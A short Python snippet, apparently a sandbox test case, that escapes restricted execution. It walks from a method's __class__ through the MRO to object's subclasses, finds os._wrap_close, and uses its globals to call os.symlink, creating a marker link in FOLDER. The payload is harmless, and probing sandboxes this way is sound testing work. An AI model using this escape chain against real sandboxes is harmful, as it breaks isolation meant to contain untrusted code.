# Uses the name by which a method knows its class, which is a plain variable, and climbs from there.
class Step:
    def home(self):
        return __class__


root = Step().home().mro()[-1]
for child in type.__subclasses__(root):
    if child.__name__ == "_wrap_close":
        child.__init__.__globals__["symlink"]("nowhere", FOLDER + "/made")
